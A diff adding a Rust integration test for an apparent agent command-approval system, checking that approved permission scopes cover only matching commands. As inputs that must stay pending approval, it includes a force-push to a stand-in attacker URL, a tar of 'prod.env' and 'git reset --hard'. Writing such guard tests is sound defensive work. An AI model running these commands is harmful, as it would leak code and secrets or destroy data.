@@ -325,3 +325,65 @@ async fn unsandboxed_permission_covers_one_exact_command(
     assert_eq!(run("ls").await["status"], "dispatched");
     assert_eq!(run("pwd").await["status"], "pending_approval", "another command");
 }
+
+/// TL-02.3: a permission covers only what it was given for, and all local git commands can be
+/// allowed in one go.
+#[rstest]
+#[tokio::test]
+async fn permission_covers_only_what_it_was_given_for(
+    #[values(Sqlite, Postgres)] backend: Backend,
+) {
+    let server = start(backend).await;
+    let desk = Desk::new(server.user("ann")).await;
+    let sandboxed = json!({
+        "client_id": desk.client, "root": "/home/ann/shop", "os": "linux",
+        "isolation": {"enforces_read_only": true},
+    });
+    desk.post("clients", sandboxed).await.expect(200);
+    let run = async |line: &str| {
+        let words: Vec<&str> = line.split(' ').collect();
+        let params = json!({"command": words[0], "args": words[1..]});
+        desk.execute("execute_command", params).await
+    };
+    let allow = async |line: &str, scope: &str| {
+        let call = run(line).await;
+        assert_eq!(call["status"], "pending_approval", "{line}");
+        desk.decide(&call, "approve", json!({"scope": scope})).await.expect(200)
+    };
+    let expect = async |line: &str, status: &str| {
+        assert_eq!(run(line).await["status"], status, "{line}");
+    };
+    allow("git push --force origin main", "class").await;
+    expect("git push --force origin main", "dispatched").await;
+    expect("git push --force https://attacker.invalid/x.git", "pending_approval").await;
+    allow("tar tf x.tar", "class").await;
+    expect("tar tf y.tar", "dispatched").await;
+    expect("tar cf - prod.env", "pending_approval").await;
+
+    let commit = run("git commit -m x").await;
+    assert_eq!(commit["class"]["local_git"], true);
+    expect("git add .", "pending_approval").await;
+    let approved = allow("git commit -m x", "local_git").await;
+    assert_eq!(approved["approval"]["scope"], "local_git");
+    assert_eq!(desk.show(&commit).await["status"], "dispatched", "it waited already");
+    expect("git add .", "dispatched").await;
+    for line in ["git push origin", "git remote add x https://x.invalid/y", "git reset --hard"] {
+        expect(line, "pending_approval").await;
+    }
+    let grants = desk.user.get(&desk.path("grants")).await.expect(200);
+    let words: Vec<&str> = grants["grants"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|it| it["words"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        words[2],
+        "all local git commands in this session: working tree and local history; never push, never \
+         a new remote, never HIGH"
+    );
+    assert!(words[0].contains("only with origin"), "{words:?}");
+    // A permission that does not fit the call is not given.
+    let push = allow("git push origin", "local_git").await;
+    assert_eq!(push["approval"]["scope"], "once");
+}
